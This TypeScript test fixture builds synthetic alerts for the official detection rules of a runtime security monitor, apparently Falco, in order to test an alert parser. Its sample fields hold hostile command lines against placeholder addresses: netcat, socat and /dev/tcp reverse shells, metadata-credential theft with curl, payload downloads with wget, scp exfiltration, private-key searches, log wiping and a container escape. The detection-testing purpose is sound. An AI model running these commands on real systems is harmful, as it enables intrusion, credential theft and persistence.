import { createAlertParser } from "#alert/parse.ts";
import type { Alert } from "#domain/alert.ts";
import type { OfficialRule } from "#knowledge/rules.ts";
import { officialRules, ruleTemplates } from "#knowledge/rules.ts";

/**
 * One alert for each official rule, instantiated from its template with what the rule's condition looks for. Written
 * from the rules, not from our indicators; names and addresses are invented.
 */
type Fields = Readonly<Record<string, string | number>>;

const shell = {
  "proc.name": "bash",
  "proc.exepath": "/usr/bin/bash",
  "proc.cmdline": "bash",
  "proc.pname": "runc",
  "proc.tty": 34816,
};
const cat = (path: string): Fields => ({
  "proc.name": "cat",
  "proc.exepath": "/usr/bin/cat",
  "proc.cmdline": `cat ${path}`,
  "fd.name": path,
  "evt.type": "openat",
});
const run = (command: string, extra: Fields = {}): Fields => {
  const program = command.split(" ")[0] ?? "";
  return {
    "proc.name": program,
    "proc.exepath": `/usr/bin/${program}`,
    "proc.cmdline": command,
    "evt.type": "execve",
    ...extra,
  };
};
const writes = (path: string, command: string, extra: Fields = {}): Fields => ({
  ...run(command),
  "fd.name": path,
  "evt.type": "openat",
  ...extra,
});
const connects = (remote: string, port: number, command: string, extra: Fields = {}): Fields => ({
  ...run(command),
  "fd.name": `10.42.0.17:51844->${remote}:${port}`,
  "fd.rip": remote,
  "fd.sip": remote,
  "fd.cip": "10.42.0.17",
  "fd.lip": "10.42.0.17",
  "fd.lport": 51844,
  "fd.rport": port,
  "fd.sport": port,
  "fd.type": "ipv4",
  "fd.l4proto": "tcp",
  "evt.type": "connect",
  ...extra,
});
const accepts = (remote: string, port: number, command: string, extra: Fields = {}): Fields => ({
  ...connects(remote, port, command),
  "fd.name": `${remote}:51844->10.42.0.17:${port}`,
  "fd.cip": remote,
  "fd.sip": "10.42.0.17",
  "fd.rip": remote,
  "fd.lport": port,
  "fd.rport": 51844,
  "evt.type": "accept4",
  ...extra,
});
const onHost: Fields = { "container.id": "host", "container.name": "host" };

const whatHappens: Readonly<Record<string, Fields>> = {
  "Directory traversal monitored file read": {
    ...cat("/etc/passwd"),
    "fd.nameraw": "../../../../etc/passwd",
    "proc.cmdline": "httpd -DFOREGROUND",
    "proc.name": "httpd",
    "proc.exepath": "/usr/sbin/httpd",
  },
  "Read sensitive file trusted after startup": {
    ...cat("/etc/shadow"),
    "proc.name": "sshd",
    "proc.exepath": "/usr/sbin/sshd",
    "proc.cmdline": "sshd: mira [priv]",
    ...onHost,
  },
  "Read sensitive file untrusted": cat("/etc/shadow"),
  "Run shell untrusted": {
    ...run("sh -c id"),
    "proc.pname": "httpd",
    "proc.pexe": "httpd",
    "proc.pexepath": "/usr/sbin/httpd",
    "proc.pcmdline": "httpd -DFOREGROUND",
  },
  "System user interactive": {
    ...run("bash -i"),
    "user.name": "daemon",
    "user.uid": 1,
    "proc.tty": 34817,
    "proc.pname": "sh",
    ...onHost,
  },
  "Terminal shell in container": shell,
  "Contact K8S API Server From Container": connects("10.96.0.1", 443, "curl -sk https://10.96.0.1/api/v1/namespaces"),
  "Netcat Remote Code Execution in Container": run("nc -e /bin/sh 203.0.113.50 4444"),
  "Search Private Keys or Passwords": run("grep -r BEGIN RSA PRIVATE /home"),
  "Clear Log Activities": writes("/var/log/auth.log", "truncate -s 0 /var/log/auth.log", {
    "evt.arg.flags": "O_TRUNC|O_WRONLY",
    ...onHost,
  }),
  "Remove Bulk Data from Disk": run("shred -u /srv/data/orders.db", onHost),
  "Create Symlink Over Sensitive Files": run("ln -s /etc/shadow /tmp/s", {
    "evt.arg.target": "/etc/shadow",
    "evt.arg.linkpath": "/tmp/s",
    "evt.type": "symlinkat",
  }),
  "Create Hardlink Over Sensitive Files": run("ln /etc/shadow /tmp/s", {
    "evt.arg.oldpath": "/etc/shadow",
    "evt.arg.newpath": "/tmp/s",
    "evt.type": "linkat",
  }),
  "Packet socket created in container": run("tcpdump -i eth0 -w /tmp/c.pcap", {
    "evt.type": "socket",
    "evt.args": "domain=17(AF_PACKET) type=3 proto=768",
  }),
  "Redirect STDOUT/STDIN to Network Connection in Container": connects("203.0.113.50", 4444, "sh -i", {
    "evt.type": "dup2",
    "proc.pname": "php-fpm",
  }),
  "Linux Kernel Module Injection Detected": run("insmod /tmp/diamorphine.ko", {
    "proc.args": "/tmp/diamorphine.ko",
    "evt.type": "execve",
    "evt.res": "SUCCESS",
  }),
  "Debugfs Launched in Privileged Container": run("debugfs -w /dev/sda1"),
  "Detect release_agent File Container Escapes": writes(
    "/tmp/cgrp/release_agent",
    "sh -c echo /cmd > /tmp/cgrp/release_agent",
    { "thread.cap_effective": "CAP_DAC_OVERRIDE CAP_SYS_ADMIN" },
  ),
  "PTRACE attached to process": run("gdb -p 812", { "evt.type": "ptrace", "proc.pcmdline": "bash", ...onHost }),
  "PTRACE anti-debug attempt": run("dropper --check", {
    "evt.type": "ptrace",
    "proc.exepath": "/tmp/dropper",
    "proc.pcmdline": "bash",
  }),
  "Find AWS Credentials": run("grep -r aws_secret_access_key /home", { "proc.pcmdline": "bash", "proc.cwd": "/home/" }),
  "Execution from /dev/shm": run("k --daemon", {
    "proc.exepath": "/dev/shm/k",
    "fd.name": "/dev/shm/k",
    "proc.cwd": "/dev/shm/",
    "evt.res": "SUCCESS",
  }),
  "Drop and execute new binary in container": run("kworkerd -q", {
    "proc.exe": "/tmp/kworkerd",
    "proc.exepath": "/tmp/kworkerd",
    "evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER",
    "proc.cwd": "/tmp/",
  }),
  "Disallowed SSH Connection Non Standard Port": connects("203.0.113.9", 8443, "ssh -p 8443 root@203.0.113.9"),
  "Fileless execution via memfd_create": run("3 run", {
    "proc.name": "3",
    "proc.exepath": "memfd:payload",
    "evt.arg.flags": "EXE_WRITABLE|EXE_FROM_MEMFD",
    "evt.res": "SUCCESS",
  }),
  "Modify Shell Configuration File": writes("/root/.bashrc", "sh -c echo /tmp/x & >> /root/.bashrc", {
    "evt.arg.flags": "O_APPEND|O_WRONLY",
    ...onHost,
  }),
  "Schedule Cron Jobs": writes("/etc/cron.d/update", "sh -c echo x > /etc/cron.d/update", {
    "evt.arg.flags": "O_CREAT|O_WRONLY",
  }),
  "Read ssh information": { ...cat("/root/.ssh/id_ed25519"), "proc.pcmdline": "bash" },
  "DB program spawned process": run("sh -c whoami", { "proc.pname": "mysqld" }),
  "Change thread namespace": run("nsenter -t 1 -m -u -n -i sh", { "evt.type": "setns" }),
  "Change namespace privileges via unshare": run("unshare -UrmC bash", { "evt.type": "unshare", "evt.res": "SUCCESS" }),
  "Launch Privileged Container": {
    "evt.type": "container",
    "proc.name": "container:4f2b8c1d9e07",
    "proc.cmdline": "container:4f2b8c1d9e07",
  },
  "Launch Excessively Capable Container": {
    "evt.type": "container",
    "proc.name": "container:4f2b8c1d9e07",
    "proc.cmdline": "container:4f2b8c1d9e07",
    "thread.cap_permitted": "CAP_CHOWN CAP_SYS_ADMIN CAP_SYS_MODULE CAP_NET_ADMIN",
  },
  "System procs network activity": connects("203.0.113.70", 443, "ls", { ...onHost }),
  "Program run with disallowed http proxy env": run("curl https://203.0.113.70/x", {
    "proc.env": "PATH=/usr/bin HTTP_PROXY=http://203.0.113.71:3128",
  }),
  "Unexpected UDP Traffic": connects("203.0.113.72", 9999, "svc", { "fd.l4proto": "udp", "evt.type": "sendto" }),
  "Non sudo setuid": run("helper", { "evt.type": "setuid", "evt.arg.uid": 0, "user.name": "mira", "user.uid": 1000 }),
  "User mgmt binaries": run("useradd -o -u 0 support", { ...onHost }),
  "Create files below dev": writes("/dev/.cache", "sh -c echo x > /dev/.cache", {
    "evt.arg.flags": "O_CREAT|O_WRONLY",
    ...onHost,
  }),
  "Contact EC2 Instance Metadata Service From Container": connects(
    "169.254.169.254",
    80,
    "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
  ),
  "Contact cloud metadata service from container": connects(
    "169.254.169.254",
    80,
    "wget -qO- http://169.254.169.254/computeMetadata/v1/",
  ),
  "Launch Package Management Process in Container": run("apt-get install -y nmap"),
  "Launch Suspicious Network Tool in Container": run("nmap -sT 10.42.0.0/24"),
  "Launch Suspicious Network Tool on Host": run("nmap -sS 10.0.0.0/24", onHost),
  "Delete or rename shell history": run("rm -f /root/.bash_history", {
    "evt.type": "unlinkat",
    "evt.arg.name": "/root/.bash_history",
    ...onHost,
  }),
  "Set Setuid or Setgid bit": run("chmod u+s /tmp/rootbash", {
    "evt.type": "fchmodat",
    "evt.arg.filename": "/tmp/rootbash",
    "evt.arg.mode": "S_ISUID|S_IRUSR|S_IXUSR",
    ...onHost,
  }),
  "Launch Remote File Copy Tools in Container": run("scp /data/dump.sql up@203.0.113.80:/in/"),
  "Network Connection outside Local Subnet": connects("203.0.113.81", 8081, "svc"),
  "Mount Launched in Privileged Container": run("mount /dev/sda1 /mnt"),
  "Launch Ingress Remote File Copy Tools in Container": run("wget http://203.0.113.82/k -O /tmp/k"),
  "Read environment variable from /proc files": cat("/proc/1/environ"),
  "Exfiltrating Artifacts via Kubernetes Control Plane": {
    ...run("tar cf - /etc/app/secrets"),
    "fd.name": "/etc/app/secrets/db.yaml",
    "evt.type": "openat",
  },
  "Adding ssh keys to authorized_keys": writes(
    "/root/.ssh/authorized_keys",
    "sh -c echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys",
    { "evt.arg.flags": "O_APPEND|O_WRONLY", ...onHost },
  ),
  "Potential Local Privilege Escalation via Environment Variables Misuse": run("su", {
    "proc.env": "GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A",
    "user.name": "mira",
    "user.uid": 1000,
    ...onHost,
  }),
  "Backdoored library loaded into SSHD (CVE-2024-3094)": {
    ...run("sshd -D"),
    "proc.exepath": "/usr/sbin/sshd",
    "fd.name": "/usr/lib/x86_64-linux-gnu/liblzma.so.5.6.1",
    "evt.type": "openat",
    ...onHost,
  },
  "BPF Program Not Profiled": run("probe", { "evt.type": "bpf", "evt.arg.cmd": "5", ...onHost }),
  "Unexpected inbound connection source": accepts("203.0.113.83", 8080, "svc"),
  "Read Shell Configuration File": cat("/home/mira/.bashrc"),
  "Update Package Repository": writes(
    "/etc/apt/sources.list.d/x.list",
    "sh -c echo deb http://203.0.113.84/ ./ > /etc/apt/sources.list.d/x.list",
    { "evt.arg.flags": "O_CREAT|O_WRONLY" },
  ),
  "Write below binary dir": writes("/usr/bin/ls", "cp /tmp/ls /usr/bin/ls", {
    "evt.arg.flags": "O_CREAT|O_WRONLY|O_TRUNC",
  }),
  "Write below monitored dir": writes("/usr/local/bin/kubelet-helper", "cp /tmp/k /usr/local/bin/kubelet-helper", {
    "evt.arg.flags": "O_CREAT|O_WRONLY",
  }),
  "Write below etc": writes("/etc/systemd/system/upd.service", "sh -c cat > /etc/systemd/system/upd.service", {
    "evt.arg.flags": "O_CREAT|O_WRONLY",
    ...onHost,
  }),
  "Write below root": writes("/root/.profile", "sh -c echo x >> /root/.profile", {
    "evt.arg.flags": "O_CREAT|O_WRONLY",
    ...onHost,
  }),
  "Write below rpm database": writes("/var/lib/rpm/Packages", "python3 /tmp/hide.py", {
    "evt.arg.flags": "O_RDWR",
    ...onHost,
  }),
  "Modify binary dirs": run("mv /usr/bin/ps /usr/bin/ps.orig", {
    "evt.type": "renameat",
    "evt.args": "oldpath=/usr/bin/ps newpath=/usr/bin/ps.orig",
    ...onHost,
  }),
  "Mkdir binary dirs": run("mkdir /usr/bin/.x", { "evt.type": "mkdirat", "evt.arg.path": "/usr/bin/.x", ...onHost }),
  "Launch Sensitive Mount Container": {
    "evt.type": "container",
    "proc.name": "container:4f2b8c1d9e07",
    "proc.cmdline": "container:4f2b8c1d9e07",
    "container.mounts": "/:/host::true:rprivate",
  },
  "Launch Disallowed Container": {
    "evt.type": "container",
    "proc.name": "container:4f2b8c1d9e07",
    "proc.cmdline": "container:4f2b8c1d9e07",
  },
  "Interpreted procs inbound network activity": accepts("203.0.113.85", 9000, "python3 /tmp/srv.py"),
  "Interpreted procs outbound network activity": connects("203.0.113.86", 9001, "python3 /tmp/c.py"),
  "Unexpected K8s NodePort Connection": accepts("203.0.113.87", 31337, "svc"),
  "Create Hidden Files or Directories": writes("/usr/lib/.x", "sh -c touch /usr/lib/.x", {
    "evt.arg.flags": "O_CREAT|O_WRONLY",
  }),
  "Detect outbound connections to common miner pool ports": connects("203.0.113.88", 3333, "kdev"),
  "Detect crypto miners using the Stratum protocol": run("kdev -o stratum+tcp://pool.example.net:3333 -u w.1"),
  "Kubernetes Client Tool Launched in Container": run("kubectl get secrets -A"),
  "Container Drift Detected (chmod)": run("chmod +x /tmp/a", {
    "evt.type": "fchmodat",
    "evt.arg.filename": "/tmp/a",
    "evt.arg.mode": "S_IXUSR|S_IXGRP|S_IXOTH",
  }),
  "Container Drift Detected (open+create)": run("cp /mnt/a /tmp/a", {
    "evt.type": "openat",
    "evt.arg.name": "/tmp/a",
    "evt.arg.filename": "/tmp/a",
    "evt.arg.mode": "0755",
  }),
  "Container Run as Root User": { ...run("svc"), "proc.pname": "runc:[2:INIT]" },
  "Sudo Potential Privilege Escalation": run("sudoedit -s \\ AAAA", {
    "user.name": "mira",
    "user.uid": 1000,
    ...onHost,
  }),
  "Unprivileged Delegation of Page Faults Handling to a Userspace Process": run("exp", {
    "evt.type": "userfaultfd",
    "user.name": "mira",
    "user.uid": 1000,
    ...onHost,
  }),
  "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)": run("pkexec", {
    "proc.args": "<NA>",
    "proc.name": "pkexec",
    "user.name": "mira",
    "user.uid": 1000,
    ...onHost,
  }),
  "Java Process Class File Download": connects("203.0.113.89", 8888, "java -jar shop.jar"),
  "Modify Container Entrypoint": writes("/proc/self/exe", "sh /entry.sh", { "evt.arg.flags": "O_WRONLY" }),
  "Decoding Payload in Container": run("base64 -d /tmp/p.b64"),
  "Basic Interactive Reconnaissance": run("whoami", { "proc.tty": 34817, ...onHost }),
  "Netcat/Socat Remote Code Execution on Host": run("socat tcp-connect:203.0.113.90:443 exec:/bin/sh", onHost),
  "Network Tool Executed During NPM Package Install": run("curl http://203.0.113.91/s", {
    "proc.pname": "sh",
    "proc.aname[2]": "npm install",
    "proc.aname[3]": "node",
  }),
  "Known Cryptominer Process Executed": run("xmrig --donate-level 1"),
  "Web Server Spawned Shell": run("sh -c id", { "proc.pname": "nginx", "proc.exepath": "/bin/sh" }),
  "Web Server Spawned Suspicious Child Process": run("curl http://203.0.113.92/a", { "proc.pname": "apache2" }),
  "Reverse Shell from Web Server": run("bash -c bash -i >& /dev/tcp/203.0.113.93/4444 0>&1", {
    "proc.pname": "apache2",
  }),
  "Privileged Container Device Access": {
    ...run("dd if=/dev/sda1 of=/tmp/d"),
    "fd.name": "/dev/sda1",
    "evt.type": "openat",
  },
  "Container Access to Host Sensitive Paths": cat("/host/etc/kubernetes/admin.conf"),
};

const defaults: Fields = {
  "user.name": "root",
  "user.uid": 0,
  "user.loginuid": -1,
  "proc.name": "svc",
  "proc.exepath": "/usr/bin/svc",
  "proc.pname": "bash",
  "proc.cmdline": "svc",
  "proc.tty": 0,
  "evt.type": "execve",
  "container.id": "4f2b8c1d9e07",
  "container.name": "orders",
  "container.image.repository": "registry.example.com/shop/orders",
  "container.image.tag": "2.4.1",
  "k8s.pod.name": "<NA>",
  "k8s.ns.name": "<NA>",
};
const appended = [
  "container.id",
  "container.name",
  "container.image.repository",
  "container.image.tag",
  "k8s.pod.name",
  "k8s.ns.name",
];

export interface OfficialAlert {
  readonly rule: OfficialRule;
  readonly alert: Alert;
  /** The same without rule name and tags, with the message. */
  readonly nameless: Alert;
  /** The same without rule name, tags and message: the fields alone. */
  readonly fieldsOnly: Alert;
}

export function officialAlerts(): OfficialAlert[] {
  const parser = createAlertParser({ templates: ruleTemplates, now: () => new Date(0) });
  return officialRules.map((rule) => {
    const happens = whatHappens[rule.rule];
    if (!happens) throw new Error(`no alert is written for the rule "${rule.rule}"`);
    const values: Fields = { ...defaults, ...happens };
    const template =
      rule.output_template + appended.map((field) => ` ${field.replaceAll(".", "_")}=%${field}`).join("");
    const named = new Set<string>();
    const message = template.replaceAll(/%([a-z0-9_]+(?:\.[a-z0-9_]+)*(?:\[\d+\])?)/g, (_, field: string) => {
      named.add(field);
      return String(values[field] ?? "<NA>");
    });
    const output_fields = Object.fromEntries([...named].map((field) => [field, values[field] ?? null]));
    const event = {
      time: "2026-03-14T02:00:00.000000001Z",
      hostname: "shop-node-1",
      source: "syscall",
      priority: rule.priority,
      output_fields,
    };
    const output = `02:00:00.000000001: ${rule.priority} ${message}`;
    return {
      rule,
      alert: parser.parse({ ...event, rule: rule.rule, tags: rule.tags, output }),
      nameless: parser.parse({ ...event, rule: "withheld", tags: [], output }),
      fieldsOnly: parser.parse({ ...event, rule: "withheld", tags: [], output: "" }),
    };
  });
}
